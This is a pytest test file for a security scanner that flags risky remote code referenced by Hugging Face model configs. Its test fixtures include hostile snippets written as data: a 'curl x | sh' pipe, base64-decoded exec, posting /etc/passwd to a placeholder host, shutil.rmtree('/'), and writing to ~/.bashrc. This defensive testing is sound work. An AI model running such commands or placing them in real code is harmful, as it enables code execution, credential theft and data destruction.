"""auto_map remote code: trust_remote_code is a finding; the named modules are analysed."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from modelsteward.findings import Severity
from modelsteward.scan.hf_config import RULES, HfConfigScanner
from tests.scan.format_factories import rule_ids, scan

SCANNER = HfConfigScanner()
BENIGN_MODELING = """
import math
import os

import torch
from torch import nn

from .configuration_tiny import TinyConfig


class TinyModel(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.path = os.path.join("a", "b")
        self.scale = math.sqrt(config.hidden)
"""
BENIGN_CONFIGURATION = "class TinyConfig:\n    model_type = 'tiny'\n"


def _repo(tmp_path: Path, modeling: str = BENIGN_MODELING, **extra: object) -> Path:
    config = {
        "model_type": "tiny",
        "auto_map": {
            "AutoConfig": "configuration_tiny.TinyConfig",
            "AutoModel": "modeling_tiny.TinyModel",
        },
        **extra,
    }
    (tmp_path / "config.json").write_text(json.dumps(config), encoding="utf-8")
    (tmp_path / "modeling_tiny.py").write_text(modeling, encoding="utf-8")
    (tmp_path / "configuration_tiny.py").write_text(BENIGN_CONFIGURATION, encoding="utf-8")
    return tmp_path / "config.json"


def test_config_without_auto_map_is_quiet(tmp_path: Path) -> None:
    path = tmp_path / "config.json"
    path.write_text('{"model_type": "llama"}', encoding="utf-8")
    assert scan(SCANNER, path) == []


def test_benign_remote_code_is_only_the_review_finding(tmp_path: Path) -> None:
    found = scan(SCANNER, _repo(tmp_path))
    assert rule_ids(found) == {"scan.hf.trust-remote-code"}
    assert found[0].severity is Severity.HIGH


@pytest.mark.parametrize(
    ("snippet", "rule", "severity"),
    [
        ("import os\nos.system('curl x | sh')\n", "remote-code-exec", Severity.CRITICAL),
        (
            "import subprocess as sp\ndef f():\n    sp.run(['id'])\n",
            "remote-code-exec",
            Severity.CRITICAL,
        ),
        ("from os import popen as p\np('id')\n", "remote-code-exec", Severity.CRITICAL),
        (
            "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
            "remote-code-exec",
            Severity.CRITICAL,
        ),
        ("import ctypes\nctypes.CDLL('libc.so.6')\n", "remote-code-exec", Severity.CRITICAL),
        ("import subprocess\n", "remote-code-exec", Severity.HIGH),
        (
            "import urllib.request\nurllib.request.urlopen('http://203.0.113.7')\n",
            "remote-code-network",
            Severity.HIGH,
        ),
        ("import socket\ns = socket.socket()\n", "remote-code-network", Severity.HIGH),
        (
            "import requests\nrequests.post('http://x', data=open('/etc/passwd').read())\n",
            "remote-code-network",
            Severity.HIGH,
        ),
        (
            "import importlib\nm = importlib.import_module('o' + 's')\n",
            "remote-code-dynamic",
            Severity.HIGH,
        ),
        ("import pickle\npickle.loads(b'')\n", "remote-code-dynamic", Severity.HIGH),
        ("import torch\ntorch.load('extra.bin')\n", "remote-code-dynamic", Severity.HIGH),
        ("open('/home/user/.bashrc', 'a').write('x')\n", "remote-code-file-write", Severity.MEDIUM),
        ("import shutil\nshutil.rmtree('/')\n", "remote-code-file-write", Severity.MEDIUM),
        (
            "from pathlib import Path\nPath('x').write_text('y')\n",
            "remote-code-file-write",
            Severity.MEDIUM,
        ),
    ],
)
def test_risky_remote_code_fires_rule(
    tmp_path: Path, snippet: str, rule: str, severity: Severity
) -> None:
    found = scan(SCANNER, _repo(tmp_path, BENIGN_MODELING + snippet))
    hits = [f for f in found if f.rule_id == f"scan.hf.{rule}"]
    assert hits, found
    assert hits[0].severity is severity
    assert hits[0].location.path.endswith("modeling_tiny.py")
    assert hits[0].location.line is not None


def test_torch_load_with_weights_only_is_fine(tmp_path: Path) -> None:
    code = BENIGN_MODELING + "torch.load('x.bin', weights_only=True)\n"
    assert rule_ids(scan(SCANNER, _repo(tmp_path, code))) == {"scan.hf.trust-remote-code"}


def test_relative_imports_are_followed(tmp_path: Path) -> None:
    (tmp_path / "helpers_tiny.py").write_text("import os\nos.system('id')\n", encoding="utf-8")
    code = BENIGN_MODELING + "from .helpers_tiny import thing\n"
    found = scan(SCANNER, _repo(tmp_path, code))
    exec_hits = [f for f in found if f.rule_id == "scan.hf.remote-code-exec"]
    assert exec_hits and exec_hits[0].location.path.endswith("helpers_tiny.py")


def test_module_level_call_says_it_runs_on_import(tmp_path: Path) -> None:
    found = scan(SCANNER, _repo(tmp_path, BENIGN_MODELING + "import os\nos.system('id')\n"))
    hit = next(f for f in found if f.rule_id == "scan.hf.remote-code-exec")
    assert "as soon as it is imported" in hit.message


def test_code_in_another_repo_fires(tmp_path: Path) -> None:
    path = tmp_path / "tokenizer_config.json"
    auto_map = {"AutoTokenizer": ["evil/repo--tokenization_x.XTokenizer", None]}
    path.write_text(json.dumps({"auto_map": auto_map}), encoding="utf-8")
    assert rule_ids(scan(SCANNER, path)) == {
        "scan.hf.trust-remote-code",
        "scan.hf.remote-code-other-repo",
    }


def test_missing_module_fires(tmp_path: Path) -> None:
    path = tmp_path / "config.json"
    path.write_text(json.dumps({"auto_map": {"AutoModel": "modeling_gone.M"}}), encoding="utf-8")
    assert "scan.hf.remote-code-missing" in rule_ids(scan(SCANNER, path))


@pytest.mark.parametrize(
    "auto_map",
    [
        ["not", "a", "dict"],
        {"AutoModel": 5},
        {"AutoModel": "../../etc/x.Cls"},
        {"AutoModel": "a.b.c"},
    ],
)
def test_bad_auto_map_is_malformed(tmp_path: Path, auto_map: object) -> None:
    path = tmp_path / "config.json"
    path.write_text(json.dumps({"auto_map": auto_map}), encoding="utf-8")
    assert "scan.hf.malformed" in rule_ids(scan(SCANNER, path))


def test_unparsable_python_is_malformed(tmp_path: Path) -> None:
    found = scan(SCANNER, _repo(tmp_path, "def broken(:\n"))
    assert "scan.hf.malformed" in rule_ids(found)


def test_rules_catalog() -> None:
    ids = {r.id for r in RULES}
    assert {"scan.hf.trust-remote-code", "scan.hf.remote-code-exec"} <= ids


def test_custom_pipeline_impl_is_remote_code(tmp_path: Path) -> None:
    (tmp_path / "pipeline_x.py").write_text("import os\nos.system('id')\n", encoding="utf-8")
    pipelines = {"pair": {"impl": "pipeline_x.PairPipeline", "pt": ["AutoModel"]}}
    path = tmp_path / "config.json"
    path.write_text(json.dumps({"custom_pipelines": pipelines}), encoding="utf-8")
    assert rule_ids(scan(SCANNER, path)) == {
        "scan.hf.trust-remote-code",
        "scan.hf.remote-code-exec",
    }
